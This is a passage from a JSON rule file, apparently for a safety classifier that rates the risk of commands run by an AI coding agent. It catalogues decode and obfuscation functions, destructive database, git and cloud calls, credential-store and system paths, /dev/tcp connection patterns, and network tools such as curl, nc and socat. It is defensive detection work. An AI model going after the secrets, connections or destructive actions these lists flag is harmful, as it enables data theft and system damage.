\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"shared":{"functions":{"c\
hr":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0","ord":"code-point $\
0","int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0","abspath":"value\
 $0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","list":"listed $0","so\
rted":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b64decode":"fold \
base64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","decode_base64":"f\
old base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32decode":"fold base\
32 $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold unread $0","gzunco\
mpress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread $0","b16decode":\
"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reversed":"reverse $\
0","reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim $0","unescape":"\
fold url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold url $0","expand\
vars":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0 $1"},"methods":\
{"join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $self $0 $1","gsu\
b":"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $self","upper":"if-t\
ext fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if-text fold trim \
$self","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self","decode":"deco\
de $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $self","chars":"if-te\
xt elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsync":"if-lasting \
run sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sql delete-all row\
s","remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store value $self","open\
_db":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if-text fold base6\
4 $self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0..","apply":"inv\
oke $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":"if-kept run sql\
 drop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run git checkout $all","update\
_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","stash":"if-git run git stash $\
all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run sql drop-schema $ow\
ner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"value","dropindex":"value","d\
ropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run sql flush FLUSHALL","flushd\
b":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql delete-all $owner","deletea\
ll":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-empty run sql delete-all $ow\
ner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","\
dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection":"made rows","all":"if-non\
e made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept run cloud-sdk delet\
e","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk delete","purge":"if-nam\
e:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop":"if-made:rows if-none run \
sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-made:rows if-none run sql dele\
te-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin","rescue","ensure","then","e\
nd","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public","private","protected","sta\
tic","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","||=","??=","&&="],"c\
onstructors":["__init__","constructor","initialize","__construct"],"class_keywords":["class","module","interface","namespace"],"declaring":["const","let","var",\
"my","our","local","await","static","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs\
","http","http2","https","module","net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","u\
rl","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","co\
llections","concurrent","configparser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmat\
ch","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","lo\
cale","logging","lzma","math","mimetypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched"\
,"secrets","select","shelve","shlex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys\
","sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","w\
ebbrowser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash\
","pandas","numpy","express","fastapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock"\
,"msw","supertest","sinon","jest","vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not",\
"typeof","void","defined","yield","async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","i\
n","else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unles\
s","while","until","for"],"spawning":["Start","spawn","spawnl","spawnlp","spawnv","spawnvp","spawnve","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_op\
en","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_shell"],"shells":["system","exec","shell_exec","popen","execSync","os","ex\
ecute","shell","cmd"],"waiting":["break","return","exit","P_WAIT","wait","wait2","waitpid","waitpid2","wait4","join","communicate","sleep","usleep","await","thr\
ow","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue","Sleep","Wait","Accept","Recv","receive","Receive","select","After","Tic\
k","delay","Delay","sleepAsync"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTEN\
SION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXI\
STS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP",\
"ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE\
","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["return","typeof","case","in","of","and","or","not","if","unless","split","grep","wh\
en"],"behind_calls":["while","until","if","unless","or","and","for","foreach"],"data_signs":["driver","database","key-store","in-memory","imitation","data-libra\
ry"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","\
filter","each","each_with_index","collect","select","find","to_h","filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecti\
ng_methods":["filter","select","reject","sort","toSorted","find_all","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices"\
,"indexes","tables","databases","collections","schemas","keyspaces","queues","topics","streams","buckets","exchanges","repos","repositories","projects","resourc\
egroups","volumes","instances","virtualmachines","droplets","servers","clusters","namespaces","organizations","customers","subscriptions","deployments","dnszone\
s","zones","tenants","vaults","storageaccounts","webapps","datasets","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":\
["indices","repos","repositories","buckets","resourcegroups","virtualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadba\
lancers","hostedzones","deployments","namespaces","databases","volumes"],"deleting":["delete","rdelete","del","drop","destroy","purge","truncate","wipe","termin\
ate","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"p\
assing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers","header"\
,"headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_h\
andler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wai\
t","now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","return\
s","resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","m\
ockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exi\
t__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","fore\
ach","while","until","do","switch","match","try","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["return","throw","rai\
se","await"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label","goto","defer","finally"],"showing_functions":["ge\
tsource","getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","issubclass"],"function_fields":["__name__","__doc__","__de\
faults__","__annotations__","__module__","__qualname__"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","in","of","a\
s","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Time\
r","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++","\
--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod",\
"chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":{"\
classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself, or one o\
f its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"A home fol\
der itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else outside the\
 workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by a build.",\
"source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the workspace, \
and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-root":"Such \
a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credential\
s":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.","handed-ov\
er":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"Users and \
permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"Keys that \
may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and me\
mory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The same \
to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, list\
s of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a folder whose\
 name is unknown, and may be empty: all of the machine then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\
\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"},"nowhere":{"for\
m":"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|ba\
sh_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(m\
kshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|\
pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|\
usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/aut\
ostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"sched\
ule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/s\
ystemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/ru\
les\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^\
(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|sub\
uid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/\
usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc\
/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|\
kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman\
|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|p\
ayroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|s\
qlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":\
{"system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applicat\
ions","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads",\
"music","videos","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cn\
f",".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","l\
ogin.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_h\
istory",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["no\
de_modules","bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".\
nyc_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtua\
lenv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless\
",".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info"\
,"builddir","storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","_\
_generated__","artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-r\
eport","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".da\
rt_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-\
cache","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typin\
gs","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin"\
,"bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",\
".nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__\
","__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".firebase",".apt_gene\
rated","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nim\
blecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target",\
"blib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc","\
.virtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".god\
ot",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es\
",".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",\
".open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scr\
iptassemblies","library/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","ap\
p","apps","test","tests","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes"\
,"server","client","clients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configura\
tion","settings","public","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views"\
,"controllers","services","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","r\
esources","i18n","locale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubern\
etes","charts","helm","ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","sche\
ma","schemas","android","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resourc\
es","benches","benchmarks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wik\
i"],"source_endings":["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","sca\
la","ex","exs","erl","clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","featur\
e","png","svg"],"file_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hp\
p","java","kt","kts","swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","pro\
to","ex","exs","scala","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfi\
le","gemfile","rakefile","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun\
|\\\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\
\\.config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/con\
figstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/compose\
r/auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/\
auth\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\\
.jira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/\
kaggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credent\
ials[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/k\
eyrings|\\\\.local/share/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|ch\
rome/profile[^/]*|chromium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrome[^/]*/[^/]*/coo\
kies|chromium/[^/]*/cookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin|\
\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/p\
ki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss/\
db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","secr\
ets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","http\
","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat"\
,"netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"k\
illers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","sp\
lit","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fish\
","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub",\
"shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am"\
],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name"\
,"p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body_\
options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","approve-builds","au\
dit","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","e\
xplain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses"\
,"link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune\
","publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop"\
,"store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","wi\
